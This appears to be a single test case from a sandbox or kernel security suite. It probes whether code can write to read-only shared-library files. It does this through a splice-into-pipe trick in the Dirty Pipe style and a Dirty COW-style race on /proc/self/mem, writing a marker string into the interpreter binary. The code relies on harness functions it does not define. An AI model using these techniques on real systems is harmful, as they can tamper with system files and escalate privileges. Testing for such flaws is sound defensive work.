# attack: 84 writes to files that it may only read
# group: F
# tries: the page cache of shared libraries, through pipes and private maps
# limits: cpu=2 wall=10
# expect: accepted
# says: done
# host: interpreter
# control: none the kernel must be one that has these faults; where it had,
#     the hash of the interpreter would differ
import mmap

PATH = os.path.realpath(sys.executable)


def through_pipe():
    number, ends = os.open(PATH, os.O_RDONLY), os.pipe()
    before = os.pread(number, 64, 0)
    os.write(ends[1], bytes(65536))
    os.read(ends[0], 65536)
    offset = ctypes.c_long(1)
    call(NR["splice"], number, ctypes.byref(offset), ends[1], 0, 1, 0)
    os.write(ends[1], b"momus-attack-84")
    return os.pread(number, 64, 0) != before


def through_map():
    number = os.open(PATH, os.O_RDONLY)
    before = os.pread(number, 64, 0)
    with mmap.mmap(number, 4096, mmap.MAP_PRIVATE) as memory:
        target = os.open("/proc/self/mem", os.O_RDWR)
        place = ctypes.addressof(ctypes.c_char.from_buffer(memory))
        for _ in range(200):
            memory.madvise(mmap.MADV_DONTNEED)
            os.pwrite(target, b"momus-attack-84", place)
    return os.pread(number, 64, 0) != before


probe("splice into a pipe", through_pipe)
probe("private map", through_map)
probe("shared map", lambda: mmap.mmap(os.open(PATH, os.O_RDONLY), 4096))
print("done")
